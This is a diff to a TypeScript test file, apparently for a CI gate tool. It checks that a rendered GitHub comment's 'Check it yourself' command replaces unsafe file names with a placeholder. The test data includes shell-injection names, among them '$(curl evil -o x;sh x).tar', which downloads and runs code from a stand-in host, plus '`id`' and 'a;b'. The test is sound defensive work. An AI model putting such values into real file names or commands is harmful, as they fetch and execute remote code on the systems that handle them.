@@ -21,7 +21,7 @@ function filled(text: string): GateDecision {
   return makeDecision('fail', {
     harness: text,
     reasons,
-    policy: { path: text, title: text, sha256: 'c'.repeat(64), commit: null },
+    policy: { path: text, title: text, trust: text, sha256: 'c'.repeat(64), commit: null },
     base: { branch: text, commit: 'b'.repeat(40) },
     requirements: [makeRequirement([cell], 'fail', { matrix: text, machine: text, reasons })],
     evidence: [true, false].map((counts) =>
@@ -115,6 +115,33 @@ test('nothing that others chose becomes a command, a tag, a link, a mention or a
       assert.match(line, /^::(error|warning|notice) title=[^:,\r\n]*::[^\r\n]*$/, attack);
     assert.equal(JSON.parse(files['check-run.json']).conclusion, 'failure');
   }
+});
+
+test('the command that a comment tells to paste holds no name that a shell would run or that is an option', () => {
+  const told = (path: string, trust: string): string => {
+    const decision = makeDecision('pass', { evidence: [makeRun({ path })] });
+    const { 'comment.md': comment } = renderGithub({ ...decision, policy: { ...decision.policy, trust } });
+    return /^Check it yourself: `(.*)`$/m.exec(comment)?.[1] ?? '';
+  };
+  assert.equal(
+    told('in/run-1_a.tar', '.github/qualify trust.json'),
+    'qualify verify run-1_a.tar --trust TRUST --explain',
+  );
+  for (const name of [
+    '$(curl evil -o x;sh x).tar',
+    '-x.tar',
+    'a b.tar',
+    'a;b',
+    "a'b",
+    '`id`',
+    'é.tar',
+    `${'x'.repeat(300)}`,
+  ])
+    assert.equal(
+      told(`in/${name}`, '.github/trust.json'),
+      'qualify verify RUN --trust .github/trust.json --explain',
+      name,
+    );
 });
 
 test('a command says what it was given and ends where it should, whatever that was', () => {
